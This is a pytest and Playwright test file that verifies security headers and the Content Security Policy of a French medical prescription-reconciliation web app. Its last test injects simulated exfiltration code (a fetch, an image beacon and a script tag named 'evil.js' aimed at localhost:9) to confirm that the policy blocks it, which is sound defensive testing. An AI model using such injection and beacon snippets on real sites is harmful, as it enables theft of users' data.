"""The headers that every answer has, and the whole page under the policy that they state, in a browser."""

import http.client
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, expect

from app.headers import HEADERS
from tests.app.access.conftest import Restricted
from tests.app.access.test_signing_in import analyse, come_in
from tests.app.transport.gateway import Instance
from tests.e2e.reader import LONG_MS, PRESCRIPTION, report, write_in_first_row

LISTEN = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(`${event.violatedDirective} ${event.blockedURI}`));
"""
DIRECT = {"x-amzn-request-context": "null"}


@pytest.fixture(scope="module")
def restricted(serve) -> Restricted:
    return serve()


@pytest.fixture
def watched(browser: Browser) -> Iterator[tuple[BrowserContext, list[str]]]:
    """A browser's window that notes what a policy refuses, and every request to another host."""
    context = browser.new_context(viewport={"width": 1400, "height": 1000}, locale="fr-FR")
    context.add_init_script(LISTEN)
    refused: list[str] = []

    def note(text: str) -> None:
        if "Content Security Policy" in text or "Permissions-Policy" in text:
            refused.append(text)

    context.on("console", lambda message: note(message.text))
    yield context, refused
    context.close()


def answered(instance: Instance, method: str, path: str, **headers: str) -> http.client.HTTPMessage:
    instance.thaw()
    connection = http.client.HTTPConnection("127.0.0.1", instance.port, timeout=30)
    connection.request(method, path, b"", {name.replace("_", "-"): value for name, value in headers.items()})
    response = connection.getresponse()
    response.read()
    connection.close()
    return response.headers


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/"),
        ("GET", "/_stcore/health"),
        ("GET", "/media/none"),
        ("GET", "/auth/login"),
        ("POST", "/_stcore/message"),
        ("POST", "/events"),
        ("GET", "/static/none.js"),
    ],
)
def test_every_answer_has_the_headers(method: str, path: str, restricted: Restricted) -> None:
    found = answered(restricted.instances[0], method, path)
    assert {name: found.get_all(name) for name in HEADERS} == {
        name: [value] for name, value in HEADERS.items()
    }
    assert "Strict-Transport-Security" not in found


def test_over_tls_browsers_are_told_to_stay_there(restricted: Restricted) -> None:
    found = answered(restricted.instances[0], "GET", "/", X_Forwarded_Proto="https")
    assert found["Strict-Transport-Security"] == "max-age=31536000"


def test_a_reader_does_all_that_there_is_to_do_under_the_policy(
    watched: tuple[BrowserContext, list[str]], restricted: Restricted, tmp_path: Path
) -> None:
    context, refused = watched
    page = context.new_page()
    hosts: set[str] = set()
    page.on("request", lambda request: hosts.add(request.url.split("/")[2]) if "//" in request.url else None)
    come_in(page, restricted)
    hosts.clear()  # the provider's page is the provider's
    dropped = {"name": "a.txt", "mimeType": "text/plain", "buffer": report("cardiologie").encode()}
    page.locator("input[type=file]").set_input_files([dropped])
    expect(page.get_by_test_id("stFileChip")).to_have_count(1)
    page.get_by_role("button", name="Nouveau cas").click()
    expect(page.get_by_test_id("stFileChip")).to_have_count(0)
    analyse(page)
    page.get_by_text("Corriger", exact=True).nth(2).click()
    grid = page.get_by_test_id("stDataFrame")
    expect(grid.get_by_test_id("glide-cell-4-0")).to_have_text("2,5 mg", timeout=LONG_MS)
    write_in_first_row(page, grid, "3,75 mg", column=3)
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name="Revenir à l'extraction")).to_be_visible(timeout=LONG_MS)
    page.get_by_role("tab", name="Conciliation").click()
    page.get_by_role("textbox", name="Nouvelle prescription").fill(PRESCRIPTION)
    page.get_by_role("button", name="Comparer").click()
    expect(page.get_by_text("dose 3,75 mg → 5 mg")).to_be_visible(timeout=LONG_MS)
    page.get_by_role("tab", name="Exporter").click()
    with page.expect_download(timeout=LONG_MS) as given:
        page.get_by_role("button", name="JSON", exact=True).click()
    given.value.save_as(tmp_path / "taken")
    assert "Bisoprolol" in json.dumps(json.loads((tmp_path / "taken").read_text()))
    page.get_by_text("English", exact=True).click()
    expect(page.get_by_role("button", name="New case")).to_be_visible()
    assert page.evaluate("window.violations") == []
    assert refused == []
    assert {host for host in hosts if host} == {restricted.url.split("/")[2]}


def test_the_policy_lets_nothing_out(
    watched: tuple[BrowserContext, list[str]], restricted: Restricted
) -> None:
    context, _ = watched
    page = context.new_page()
    page.goto(restricted.url)
    expect(page.get_by_role("button", name="Se connecter")).to_be_visible()
    page.evaluate(
        """() => {
            fetch("http://localhost:9/?stolen").catch(() => {});
            new Image().src = "http://localhost:9/stolen.png";
            const script = document.createElement("script");
            script.src = "http://localhost:9/evil.js";
            document.head.append(script);
        }"""
    )
    page.wait_for_function("window.violations.length >= 3")
    kinds = {violation.split()[0] for violation in page.evaluate("window.violations")}
    assert kinds == {"connect-src", "img-src", "script-src-elem"}
